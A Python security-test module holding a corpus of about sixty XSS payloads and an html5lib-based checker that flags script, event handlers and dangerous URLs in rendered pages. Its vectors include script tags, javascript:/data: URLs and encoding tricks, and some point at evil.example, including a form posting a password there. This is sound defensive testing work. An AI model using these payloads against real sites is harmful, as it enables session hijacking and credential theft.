"""A corpus of hostile inputs and a check that a rendered page runs none of them.

Use it anywhere text from people or files reaches a page:

    from tests.security.hostile import VECTORS, assert_no_active_content
    for vector in VECTORS:
        ...store vector as a help-request message / session note / display name...
        assert_no_active_content(client.get(page).get_data(as_text=True))

The page is parsed the way a browser parses it (html5lib implements the WHATWG algorithm), so
markup that splits tags, unclosed attributes or "mutation" tricks are judged by the tree a
browser would build, not by string matching.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from xml.etree.ElementTree import Element

import html5lib

# Every vector carries a unique marker (xss-N) so a finding points at its source.
VECTORS: tuple[str, ...] = (
    "<script>alert('xss-1')</script>",
    "<SCRIPT SRC=//evil.example/xss-2.js></SCRIPT>",
    "<img src=x onerror=alert('xss-3')>",
    "<svg onload=alert('xss-4')>",
    "<svg><script>alert('xss-5')</script></svg>",
    '<svg><a xlink:href="javascript:alert(\'xss-6\')"><text x="1" y="1">x</text></a></svg>',
    "<a href=\"javascript:alert('xss-7')\">click</a>",
    "<a href=\"JaVaScRiPt:alert('xss-8')\">click</a>",
    "<a href=\"java&#x09;script:alert('xss-9')\">click</a>",
    "<a href=\" &#14; javascript:alert('xss-10')\">x</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">xss-11</a>',
    "<iframe src=\"javascript:alert('xss-12')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('xss-13')</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert('xss-14')</script>\"></object>",
    "<embed src=\"javascript:alert('xss-15')\">",
    "<div style=\"background:url(javascript:alert('xss-16'))\">x</div>",
    "<div style=\"width: expression(alert('xss-17'))\">x</div>",
    "<style>body{background:url('javascript:alert(\"xss-18\")')}</style>",
    '<link rel=stylesheet href="https://evil.example/xss-19.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss-20\')">',
    '<base href="https://evil.example/xss-21/">',
    '<form action="https://evil.example/xss-22"><input name=password></form>',
    "<button formaction=\"javascript:alert('xss-23')\">x</button>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-24')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-25')>\">",
    '<img src="x" alt="" onerror="alert(\'xss-26\')"',
    "<scr<script>ipt>alert('xss-27')</script>",
    "\"><script>alert('xss-28')</script>",
    "'><img src=x onerror=alert('xss-29')>",
    "</textarea><script>alert('xss-30')</script>",
    "</title><script>alert('xss-31')</script>",
    "<!--<img src=\"--><img src=x onerror=alert('xss-32')//\">",
    "<details open ontoggle=alert('xss-33')>",
    "<body onload=alert('xss-34')>",
    "<input autofocus onfocus=alert('xss-35')>",
    "<video><source onerror=alert('xss-36')></video>",
    "[click](javascript:alert('xss-37'))",
    "![x](javascript:alert('xss-38'))",
    "[x](data:text/html;base64,PHNjcmlwdD4=) xss-39",
    '<a href="vbscript:msgbox(40)">xss-40</a>',
    "\u202e<script>alert('xss-41')</script>\u202c",
    "\uff1cscript\uff1ealert('xss-42')\uff1c/script\uff1e",
    "<scr\u0000ipt>alert('xss-43')</scr\u0000ipt>",
    "<img src=`x` onerror=alert('xss-44')>",
    "<svg><animate onbegin=alert('xss-45') attributeName=x dur=1s>",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(46)">xss-46</a>',
    "<x onclick=alert('xss-47')>x</x>",
    "javascript:alert('xss-48')",
    "<a href=\"&#x6A;avascript&colon;alert('xss-49')\">x</a>",
    "<img src=x:alert(1) onerror=eval(src) alt=xss-50>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<script>alert('xss-51')</script></svg>#x\"/></svg>",
    "<a href='\u2028javascript:alert(\"xss-52\")'>x</a>",
    "{{ config }}{% for x in range(3) %}xss-53{% endfor %}",
    "<p title='xss-54' \" onmouseover=alert(54) x='",
    "<table background=\"javascript:alert('xss-55')\">",
    "<isindex type=image src=1 onerror=alert('xss-56')>",
    "<marquee onstart=alert('xss-57')>",
    '<a href="#" onclick="alert(\'xss-58\')">x</a>',
    "%3Cscript%3Ealert('xss-59')%3C/script%3E",
    "<![CDATA[<script>alert('xss-60')</script>]]>",
)

# Where a URL in these attributes could run code or load something foreign.
URL_ATTRIBUTES = frozenset(
    {
        "href",
        "src",
        "action",
        "formaction",
        "data",
        "poster",
        "background",
        "srcset",
        "ping",
        "cite",
        "longdesc",
        "lowsrc",
        "dynsrc",
        "manifest",
        "codebase",
        "xlink:href",
        "to",
        "from",
        "values",
    }
)
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:", "mocha:")
FORBIDDEN_ELEMENTS = frozenset(
    {
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "base",
        "style",
        "portal",
        "isindex",
        "animate",
        "set",
        "handler",
        "listener",
        "foreignobject",
    }
)
# Characters browsers ignore when they read a URL's scheme.
_IGNORED_IN_SCHEME = re.compile(r"[\x00-\x20\x7f\u2028\u2029\u00a0\ufeff]")


def _local(name: str) -> str:
    """Tag or attribute name without the {namespace} html5lib puts in front."""
    if name.startswith("{"):
        namespace, _, local = name[1:].partition("}")
        return ("xlink:" + local) if namespace.endswith("xlink") else local.lower()
    return name.lower()


def _same_origin_path(value: str) -> bool:
    value = value.strip()
    return value.startswith("/") and not value.startswith("//") and "\\" not in value


def _dangerous_url(value: str) -> bool:
    folded = _IGNORED_IN_SCHEME.sub("", value).lower()
    return folded.startswith(DANGEROUS_SCHEMES)


def active_content(html: str) -> list[str]:
    """Everything in a page that could run script or pull in foreign content."""
    # scripting=True: parse <noscript> as a browser with JavaScript on does (raw text).
    parser = html5lib.HTMLParser(tree=html5lib.getTreeBuilder("etree"), namespaceHTMLElements=False)
    tree = parser.parse(html, scripting=True)
    findings: list[str] = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue  # comments
        findings.extend(_element_findings(element))
    return findings


def _element_findings(element: Element) -> Iterable[str]:
    tag = _local(element.tag)
    attrs = {_local(k): v for k, v in element.attrib.items()}
    where = f"<{tag} {attrs}>"
    if tag == "script":
        src = attrs.get("src")
        if not src or not _same_origin_path(src) or (element.text or "").strip():
            yield f"script element: {where} {element.text!r}"
    if tag in FORBIDDEN_ELEMENTS:
        yield f"forbidden element: {where}"
    if tag == "meta" and "http-equiv" in attrs:
        yield f"meta http-equiv: {where}"
    if tag == "link" and not _same_origin_path(attrs.get("href", "/")):
        yield f"foreign link: {where}"
    if tag == "form" and "action" in attrs and not _same_origin_path(attrs["action"] or "/"):
        yield f"form posting elsewhere: {where}"
    for name, value in attrs.items():
        if name.startswith("on"):
            yield f"event handler {name}: {where}"
        elif name in ("style", "srcdoc"):
            yield f"{name} attribute: {where}"
        elif name in URL_ATTRIBUTES and _dangerous_url(value):
            yield f"dangerous URL in {name}: {where}"


def assert_no_active_content(html: str, context: str = "") -> None:
    """Fail with every finding when the page contains anything active."""
    findings = active_content(html)
    assert not findings, f"active content {context}:\n" + "\n".join(findings[:20])
